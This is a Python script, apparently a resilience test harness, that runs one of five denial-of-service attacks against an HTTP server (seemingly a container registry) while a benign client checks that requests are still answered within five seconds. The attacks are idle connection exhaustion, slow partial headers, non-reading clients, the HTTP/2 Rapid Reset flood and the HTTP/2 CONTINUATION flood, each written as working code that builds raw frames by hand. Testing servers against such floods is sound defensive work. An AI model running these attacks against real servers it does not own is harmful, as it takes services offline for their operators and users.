"""One attack on a server: attacks.py KIND HOST PORT COUNT USER PASSWORD.

While it lasts, an honest client asks again and again; the exit code is 0 when
each of its requests was answered within five seconds.
"""

import base64
import http.client
import os
import socket
import struct
import sys
import threading
import time

KIND, HOST, PORT, COUNT = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
LOGIN = "Basic " + base64.b64encode(":".join(sys.argv[5:7]).encode()).decode()
PATIENCE = 5.0


def connect():
    stream = socket.create_connection((HOST, PORT), timeout=30)
    stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return stream


def honest(done, answers):
    """Asks over a new connection each time, until the attack is over."""
    while not done.is_set():
        begin = time.monotonic()
        try:
            client = http.client.HTTPConnection(HOST, PORT, timeout=PATIENCE)
            client.request("GET", "/v2/", headers={"Authorization": LOGIN})
            status = client.getresponse().status
            client.close()
        except OSError as error:
            status = repr(error)
        answers.append((status, time.monotonic() - begin))
        time.sleep(0.05)


def idle():
    held = [connect() for _ in range(COUNT)]
    time.sleep(2)
    return held


def slow_heads():
    held = [connect() for _ in range(COUNT)]
    for _ in range(5):
        for stream in held:
            try:
                stream.sendall(b"GET /v2/ HTTP/1.1\r\nx-a: b" if _ == 0 else b"b")
            except OSError:
                pass
        time.sleep(0.5)
    return held


def no_readers():
    held = []
    for _ in range(COUNT):
        stream = connect()
        stream.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        ask = f"GET /v2/_catalog HTTP/1.1\r\nhost: r\r\nauthorization: {LOGIN}\r\n\r\n"
        try:
            stream.setblocking(False)
            stream.send(ask.encode() * 500)
        except OSError:
            pass
        held.append(stream)
    time.sleep(2)
    return held


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


FIELDS = b"\x82\x86\x84\x41\x01r"


def opened():
    stream = connect()
    stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
    return stream


def rapid_reset():
    left = COUNT
    while left > 0:
        stream = opened()
        try:
            for number in range(1000):
                index = 2 * number + 1
                stream.sendall(frame(1, 5, index, FIELDS) + frame(3, 0, index, struct.pack(">I", 8)))
                left -= 1
        except OSError:
            left -= 1
        stream.close()
    return []


def continuations():
    piece = frame(9, 0, 1, (b"\x10\x01a\x64" + b"x" * 100) * 150)
    for _ in range(max(1, COUNT // 16)):
        stream = opened()
        try:
            stream.sendall(frame(1, 1, 1, FIELDS))
            for _ in range(1000):
                stream.sendall(piece)
        except OSError:
            pass
        stream.close()
    return []


def main():
    done, answers = threading.Event(), []
    client = threading.Thread(target=honest, args=(done, answers))
    client.start()
    attacks = {"idle": idle, "slow-heads": slow_heads, "no-readers": no_readers,
               "rapid-reset": rapid_reset, "continuations": continuations}
    begin = time.monotonic()
    try:
        held = attacks[KIND]()
        time.sleep(0.5)
    finally:
        done.set()
        client.join()
    took = time.monotonic() - begin
    slowest = max(seconds for _, seconds in answers)
    wrong = [status for status, seconds in answers if status != 200 or seconds > PATIENCE]
    print(f"{KIND}: {took:.1f} s, {len(answers)} honest requests, "
          f"slowest {slowest * 1000:.0f} ms, unanswered {wrong[:5]}")
    sys.stdout.flush()
    # Closing thousands of sockets in order would take longer than leaving.
    os._exit(1 if wrong or held is None else 0)


main()
